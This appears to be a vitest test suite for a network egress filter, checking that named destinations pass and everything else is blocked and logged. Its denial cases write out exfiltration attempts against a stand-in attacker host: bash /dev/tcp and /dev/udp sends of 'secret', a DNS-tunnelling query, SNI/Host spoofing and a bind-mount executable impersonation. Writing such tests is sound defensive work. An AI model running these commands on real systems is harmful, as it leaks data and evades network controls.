import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { PACE } from '../pace.ts';
import { asked, Lab, reached, WORLD } from './lab.ts';

let lab: Lab;
beforeAll(async () => {
  lab = await Lab.start();
});
afterAll(() => lab?.stop());

const curl = (...args: string[]): string[] => ['curl', '-sS', '--max-time', `${10 * PACE}`, ...args];

describe('what the policy names passes', () => {
  test.each([
    ['--http1.1', '1.1', 'h1'],
    ['--http2', '2.0', 'h2'],
  ])('HTTPS with %s, intercepted', async (flag, version, protocol) => {
    const result = await lab.run(curl(flag, 'https://ok.test/a?secret=1'), { policy: 'ok.test' });
    expect(result.stderr).not.toContain('egress-filter:');
    expect(result.stdout).toBe(`hello from ok.test/a?secret=1 by GET HTTP/${version}\n`);
    expect(result.status).toBe(0);
    const line = result.log.find(({ type }) => type === 'https');
    expect(line).toMatchObject({
      policy: 'allow',
      method: 'GET',
      protocol,
      rule: 'line 1: ok.test',
      dst_ip: WORLD.ok,
      dst_port: 443,
      exe: '/usr/bin/curl',
      uid: 65534,
    });
    expect(line?.url).toBe('https://ok.test/a?[redacted]');
    expect(line?.cmdline?.[0]).toBe('curl');
    expect(line?.cgroup).toMatch(/^\/egress-filter\/[0-9a-f]{8}\/command$/);
    const close = result.log.find(({ type, conn }) => type === 'close' && conn === line?.conn);
    expect(close?.bytes_in).toBeGreaterThan(0);
    expect(close?.bytes_out).toBeGreaterThan(0);
    expect(result.log.find(({ type }) => type === 'dns')).toMatchObject({ name: 'ok.test', policy: 'allow' });
  });

  test('plain HTTP', async () => {
    const result = await lab.run(curl('http://ok.test/x'), { policy: 'http://ok.test/*' });
    expect(result.stdout).toContain('hello from ok.test/x');
    expect(result.log.find(({ type }) => type === 'http')).toMatchObject({ policy: 'allow', url: 'http://ok.test/x', method: 'GET' });
  });

  test('passthrough: the client sees the real certificate', async () => {
    const result = await lab.run(curl('--cacert', lab.caPath, 'https://ok.test/'), { policy: 'ok.test passthrough' });
    expect(result.stdout).toContain('hello from ok.test/');
    expect(result.log.find(({ type }) => type === 'https')).toMatchObject({ policy: 'allow', host: 'ok.test', passthrough: true });
  });

  test('insecure: a self-signed server, through our certificate', async () => {
    const result = await lab.run(curl('https://self.test/'), { policy: 'self.test insecure' });
    expect(result.stdout).toContain('self-signed');
    const refused = await lab.run(curl('https://self.test/'), { policy: 'self.test' });
    expect(refused.stdout + refused.stderr).toMatch(/self.signed/i);
    expect(refused.log.some(({ error }) => error)).toBe(true);
  });

  test('raw TCP by a learned name, the server speaks first', async () => {
    const program = "import socket; s=socket.create_connection(('ssh.test',22)); print(s.recv(99)); s.sendall(b'ping'); print(s.recv(99))";
    const result = await lab.run(['/usr/bin/python3', '-c', program], { policy: 'ssh.test:22' });
    expect(result.stdout).toBe("b'SSH-2.0-World_1.0\\r\\n'\nb'ping'\n");
    expect(result.log.find(({ type }) => type === 'tcp')).toMatchObject({ policy: 'allow', dst_port: 22, dst_names: ['ssh.test'] });
  });

  test('raw TCP by address, the client speaks first', async () => {
    const result = await lab.run(['bash', '-c', `exec 3<>/dev/tcp/${WORLD.ok}/9999; echo marco >&3; head -c6 <&3`], {
      policy: `${WORLD.ok}:9999`,
    });
    expect(result.stdout).toBe('marco\n');
  });

  test('UDP by address and by learned name', async () => {
    const program = (host: string): string =>
      `import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(${5 * PACE}); s.sendto(b'x',('${host}',9999)); print(s.recv(9))`;
    const byAddress = await lab.run(['/usr/bin/python3', '-c', program(WORLD.ok)], { policy: `${WORLD.ok}:9999/udp` });
    expect(byAddress.stdout).toBe("b'x'\n");
    expect(byAddress.log.find(({ type }) => type === 'udp')).toMatchObject({
      policy: 'allow',
      dst_port: 9999,
      exe: expect.stringContaining('python3'),
    });
    const byName = await lab.run(['/usr/bin/python3', '-c', program('ok.test')], { policy: 'ok.test:9999/udp' });
    expect(byName.stdout).toBe("b'x'\n");
  });

  test('DNS over TCP', async () => {
    const result = await lab.run(['dig', '+short', '+tcp', 'ok.test'], { policy: 'ok.test' });
    expect(result.stdout).toBe(`${WORLD.ok}\n`);
  });
});

describe('what it does not name does not leave', () => {
  const cases: [string, string[]][] = [
    ['HTTPS to another name', curl('https://evil.test/')],
    ['HTTPS to an address', curl('-k', `https://${WORLD.evil}/`)],
    ['plain HTTP', curl(`http://${WORLD.evil}/`)],
    ['raw TCP', ['bash', '-c', `exec 3<>/dev/tcp/${WORLD.evil}/9999; echo secret >&3; head -c6 <&3`]],
    ['UDP', ['bash', '-c', `exec 3<>/dev/udp/${WORLD.evil}/9999; echo secret >&3; read -t 2 -u 3 line`]],
    ['a DNS question', ['dig', '+time=2', '+tries=1', 'c2VjcmV0.evil.test']],
    ['a DNS question to a server of the attacker', ['dig', '+time=2', '+tries=1', `@${WORLD.evil}`, 'ok.test']],
    ['a DNS question over TCP', ['dig', '+tcp', '+time=2', '+tries=1', `@${WORLD.evil}`, 'c2VjcmV0.evil.test']],
    ['port 853', ['bash', '-c', `exec 3<>/dev/tcp/${WORLD.evil}/853; echo secret >&3; head -c6 <&3`]],
  ];
  test.each(cases)('%s', async (_what, argv) => {
    const result = await lab.run(argv, { policy: 'ok.test\nhttp://ok.test/*' });
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.includes('evil'))).toEqual([]);
    const denied = result.log.filter(({ policy }) => policy === 'deny');
    expect(denied.length).toBeGreaterThan(0);
    expect(denied[0]?.pid).toBeGreaterThan(0);
    expect(denied[0]?.exe).toBeTruthy();
  });

  test.each([
    ['an allowed SNI', ['--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/'], 'ok.test'],
    ['an allowed SNI, passed through', ['-k', '--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/'], 'ok.test passthrough'],
    ['an allowed Host', ['-H', 'Host: ok.test', `http://${WORLD.evil}/`], 'ok.test:80'],
  ])('%s at an address of the attacker goes to where the name really is', async (_what, args, policy) => {
    const result = await lab.run(curl(...args), { policy });
    expect(result.stdout).toContain('hello from ok.test/');
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(reached(result, WORLD.ok).length).toBeGreaterThan(0);
  });

  test('a rule for a program is not met by another one mounted over its path', async () => {
    const policy = 'ok.test exe=/usr/bin/curl';
    expect((await lab.run(curl('https://ok.test/'), { policy })).stdout).toContain('hello');
    const program = "import urllib.request; print(urllib.request.urlopen('https://ok.test/').read())";
    const mount = `mount --bind "$(readlink -f /usr/bin/python3)" /usr/bin/curl && exec /usr/bin/curl -c "${program}"`;
    const result = await lab.run(['unshare', '-Urm', 'sh', '-c', mount], { policy });
    expect(result.stdout).not.toContain('hello');
    expect(reached(result, WORLD.ok)).toEqual([]);
    expect(result.log.find(({ policy: verdict }) => verdict === 'deny')?.exe).toBe('unproven:/usr/bin/curl');
  });

  test('IPv6 is refused, IPv6 loopback works', async () => {
    const program = [
      'import socket',
      "try: socket.create_connection(('fd77::1', 80), timeout=3)",
      "except OSError as e: print('refused', e.errno)",
      "l=socket.socket(socket.AF_INET6); l.bind(('::1',0)); l.listen(); c=socket.create_connection(l.getsockname()[:2]); print('local ok')",
    ].join('\n');
    const result = await lab.run(['/usr/bin/python3', '-c', program]);
    expect(result.stdout).toMatch(/refused \d+\nlocal ok\n/);
    expect(result.packets.filter(({ v6 }) => v6)).toEqual([]);
    expect(result.log.some(({ policy, reason }) => policy === 'deny' && /ipv6/i.test(reason ?? ''))).toBe(true);
  });

  test.each([
    ['raw', 'AF_INET, socket.SOCK_RAW, 1'],
    ['ICMP datagram', 'AF_INET, socket.SOCK_DGRAM, 1'],
    ['UDP-Lite', 'AF_INET, socket.SOCK_DGRAM, 136'],
    ['SCTP', 'AF_INET, socket.SOCK_STREAM, 132'],
    ['packet', 'AF_PACKET, socket.SOCK_RAW, 768'],
    ['vsock', 'AF_VSOCK, socket.SOCK_STREAM, 0'],
  ])('a %s socket', async (_what, parameters) => {
    const result = await lab.run(['/usr/bin/python3', '-c', `import socket; socket.socket(socket.${parameters})`], { user: 'root' });
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/PermissionError|OSError/);
  });
});
